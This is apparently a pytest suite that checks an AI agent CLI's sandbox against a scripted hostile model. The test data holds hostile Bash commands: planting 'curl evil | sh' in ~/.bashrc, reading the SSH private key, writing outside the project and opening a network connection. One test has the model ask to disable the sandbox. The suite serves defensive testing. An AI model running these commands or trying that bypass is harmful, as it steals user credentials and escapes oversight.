"""The sandbox end to end: the real CLI in print mode, a hostile scripted model, the emulator.

With `Bash` allowed outright nothing asks, so only the sandbox stands between the model and the
user's files: every hostile command fails, says why in its result, and changes nothing.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import Any

import pytest

from agent_repl.emulator.policies import ScriptPolicy
from agent_repl.emulator.server import EmulatorServer

from .conftest import Layout, needs_landlock

pytestmark = [needs_landlock, pytest.mark.timeout(180)]


def script(commands: list[str]) -> EmulatorServer:
    steps: list[dict[str, Any]] = [{"tools": [{"name": "Bash", "input": {"command": c}}]} for c in commands]
    server = EmulatorServer(policy=ScriptPolicy({"steps": [*steps, {"text": "Done."}]}))
    server.start()
    return server


def run_cli(layout: Layout, server: EmulatorServer, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC_", "AGENT_REPL_"))}
    env.update(
        HOME=str(layout.home), TMPDIR=str(layout.temp), AGENT_REPL_HOME=str(layout.agent_home),
        ANTHROPIC_BASE_URL=server.base_url, ANTHROPIC_API_KEY="sk-ant-test-sandbox",
    )  # fmt: skip
    return subprocess.run(
        [sys.executable, "-m", "agent_repl", "-p", "go", *args],
        cwd=layout.project, env=env, capture_output=True, text=True, timeout=150, stdin=subprocess.DEVNULL,
    )  # fmt: skip


def results(server: EmulatorServer) -> list[str]:
    body = [e.body for e in server.recordings.messages if e.status == 200][-1]
    found = []
    for message in body["messages"]:
        if message["role"] != "user" or not isinstance(message["content"], list):
            continue
        for block in message["content"]:
            if block.get("type") == "tool_result":
                content = block["content"]
                found.append(content if isinstance(content, str) else "".join(b.get("text", "") for b in content))
    return found


def test_with_bash_allowed_outright_the_sandbox_still_stops_every_escape(layout: Layout, listener: int) -> None:
    connect = f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {listener}), timeout=5)\""
    # Code the parse cannot see into (python -c) is where only the sandbox stands.
    append_bashrc = f"{sys.executable} -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')\""
    hostile = [
        f"echo pwned > {layout.outside}/written",
        append_bashrc,
        "cat ~/.ssh/id_ed25519",
        connect,
        "echo fine > inside.txt",
    ]
    server = script(hostile)
    try:
        done = run_cli(layout, server, "--allowed-tools", "Bash", "--output-format", "json")
        assert done.returncode == 0, done.stderr
        said = results(server)
    finally:
        server.stop()
    assert len(said) == 5
    for result in said[:4]:
        assert "Blocked by the sandbox" in result, result
    assert "secret" not in said[2]
    assert not (layout.outside / "written").exists()
    assert (layout.home / ".bashrc").read_text() == "# the user's shell setup\n"
    assert (layout.project / "inside.txt").read_text() == "fine\n" and "Blocked" not in said[4]
    assert json.loads(done.stdout)["permission_denials"] == []


def test_auto_allow_runs_sandboxed_commands_unasked_and_asks_for_the_network(layout: Layout) -> None:
    layout.agent_home.mkdir(exist_ok=True)
    (layout.agent_home / "settings.json").write_text(json.dumps({"sandbox": {"auto_allow": True}}))
    server = script(["mkdir -p build && echo built > build/out.txt", "curl -s http://127.0.0.1:9/", f"echo x > {layout.outside}/x"])
    try:
        done = run_cli(layout, server, "--output-format", "json")
        assert done.returncode == 0, done.stderr
        said = results(server)
    finally:
        server.stop()
    assert (layout.project / "build" / "out.txt").read_text() == "built\n"
    denials = [d["tool_input"]["command"] for d in json.loads(done.stdout)["permission_denials"]]
    # Print mode cannot ask: what auto-allow leaves to a question is denied.
    assert denials == ["curl -s http://127.0.0.1:9/", f"echo x > {layout.outside}/x"]
    assert "network" in said[1] and not (layout.outside / "x").exists()


def test_without_auto_allow_print_mode_still_denies_unapproved_commands(layout: Layout) -> None:
    server = script(["echo hi > inside.txt"])
    try:
        done = run_cli(layout, server, "--output-format", "json")
    finally:
        server.stop()
    assert done.returncode == 0, done.stderr
    assert not (layout.project / "inside.txt").exists()
    assert len(json.loads(done.stdout)["permission_denials"]) == 1


def test_running_outside_the_sandbox_is_always_asked_even_with_bash_allowed(layout: Layout) -> None:
    server = EmulatorServer(policy=ScriptPolicy({"steps": [
        {"tools": [{"name": "Bash", "input": {"command": f"touch {layout.outside}/x", "dangerouslyDisableSandbox": True}}]},
        {"text": "Done."},
    ]}))  # fmt: skip
    server.start()
    try:
        done = run_cli(layout, server, "--allowed-tools", "Bash", "--output-format", "json")
        said = results(server)
    finally:
        server.stop()
    assert done.returncode == 0, done.stderr
    assert not (layout.outside / "x").exists()
    assert "OUTSIDE the sandbox" in said[0]
    assert len(json.loads(done.stdout)["permission_denials"]) == 1
